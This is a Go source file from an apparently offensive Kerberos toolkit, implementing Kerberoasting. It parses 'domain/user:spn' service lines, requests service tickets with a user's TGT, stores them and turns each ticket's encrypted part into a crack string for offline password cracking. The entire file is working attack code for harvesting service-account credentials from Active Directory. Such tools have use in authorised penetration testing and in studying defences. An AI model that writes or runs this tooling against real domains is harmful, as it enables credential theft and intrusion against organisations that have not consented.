package orchestrator

import (
	"context"
	"strings"

	"github.com/jcmturner/gokrb5/v8/types"

	"github.com/sprout-sec/kerbeus-go/errs"
	"github.com/sprout-sec/kerbeus-go/hashutils"
	"github.com/sprout-sec/kerbeus-go/krbuser"
	"github.com/sprout-sec/kerbeus-go/messageforge"
	"github.com/sprout-sec/kerbeus-go/requester"
)

// kerberoastService is one parsed line from a kerberoast service list: the
// target principal, and either an explicit SPN or (when absent) a request
// for an NT-ENTERPRISE ticket to the user itself.
type kerberoastService struct {
	user krbuser.KrbUser
	spn  string // empty means "use nt_enterprise(user)"
}

func (s kerberoastService) serviceName() types.PrincipalName {
	if s.spn == "" {
		return messageforge.NTEnterprise(s.user.Name(), s.user.Realm())
	}
	return messageforge.NTSrvInst(s.spn)
}

// ParseKerberoastService parses one kerberoast service line per spec §4.6:
// "user", "domain/user" (also "domain\user"), "user:spn", "domain/user:spn".
// The SPN, if present, is everything after the first ':' (re-joined with
// ':' if the line itself contained more than one). A missing domain
// defaults to defaultRealm. Empty user, empty domain, or more than two
// "/"-or-"\"-separated segments in the user portion is a StringError.
func ParseKerberoastService(line, defaultRealm string) (krbuser.KrbUser, string, error) {
	parts := strings.SplitN(line, ":", 2)
	userPart := parts[0]
	if userPart == "" {
		return krbuser.KrbUser{}, "", errs.NewStringError("kerberoast service %q: no user", line)
	}

	userLabels := strings.FieldsFunc(userPart, func(r rune) bool { return r == '/' || r == '\\' })
	// FieldsFunc drops empty segments, so an explicit empty domain or user
	// ("/" + "user", or "domain" + "/") must be checked against the raw
	// separator count instead of relying on the split result alone.
	sepCount := strings.Count(userPart, "/") + strings.Count(userPart, "\\")

	var user krbuser.KrbUser
	switch {
	case sepCount == 0:
		if len(userLabels) != 1 {
			return krbuser.KrbUser{}, "", errs.NewStringError("kerberoast service %q: empty user", line)
		}
		user = krbuser.NewKrbUser(userLabels[0], defaultRealm)

	case sepCount == 1:
		if strings.HasPrefix(userPart, "/") || strings.HasPrefix(userPart, "\\") {
			return krbuser.KrbUser{}, "", errs.NewStringError("kerberoast service %q: empty domain", line)
		}
		if strings.HasSuffix(userPart, "/") || strings.HasSuffix(userPart, "\\") {
			return krbuser.KrbUser{}, "", errs.NewStringError("kerberoast service %q: empty user", line)
		}
		if len(userLabels) != 2 {
			return krbuser.KrbUser{}, "", errs.NewStringError("kerberoast service %q: invalid user, expected <domain>/<username>", line)
		}
		user = krbuser.NewKrbUser(userLabels[1], userLabels[0])

	default:
		return krbuser.KrbUser{}, "", errs.NewStringError("kerberoast service %q: invalid user, expected <domain>/<username>", line)
	}

	if len(parts) == 1 {
		return user, "", nil
	}
	return user, parts[1], nil
}

// ParseKerberoastServices parses every line, accumulating per-line errors
// instead of failing the whole batch on the first malformed entry — the
// batch-mode supplement to the single-line parser, for callers feeding in a
// service list from a file.
func ParseKerberoastServices(lines []string, defaultRealm string) ([]kerberoastService, []error) {
	var services []kerberoastService
	var errsOut []error

	for _, line := range lines {
		user, spn, err := ParseKerberoastService(line, defaultRealm)
		if err != nil {
			errsOut = append(errsOut, err)
			continue
		}
		services = append(services, kerberoastService{user: user, spn: spn})
	}

	return services, errsOut
}

// Kerberoast obtains (via a cached or freshly requested TGT for user) a
// service ticket for every parsed service line and formats each one's
// encrypted part as a crack string. Successfully requested tickets are
// inserted into the vault regardless of which services failed.
func (o *Orchestrator) Kerberoast(ctx context.Context, user krbuser.KrbUser, key krbuser.Key, serviceLines []string, format hashutils.Format) ([]string, []error) {
	services, parseErrs := ParseKerberoastServices(serviceLines, user.Realm())

	tgt, err := o.getUserTGT(ctx, user, key)
	if err != nil {
		return nil, append(parseErrs, err)
	}
	sessionCipher := sessionKeyCipher(tgt)

	var crackStrings []string
	var errsOut = parseErrs
	for _, svc := range services {
		sname := svc.serviceName()
		tgs, err := requester.RequestRegularTGS(ctx, o.Comm, tgt, sessionCipher, sname, o.etypes())
		if err != nil {
			errsOut = append(errsOut, err)
			continue
		}
		if o.Vault != nil {
			if err := o.Vault.Add(tgs); err != nil {
				errsOut = append(errsOut, err)
				continue
			}
		}
		crackStrings = append(crackStrings, hashutils.TGSCrackString(svc.user.Name(), svc.user.Realm(), strings.Join(sname.NameString, "/"), tgs.Ticket, format))
	}

	return crackStrings, errsOut
}
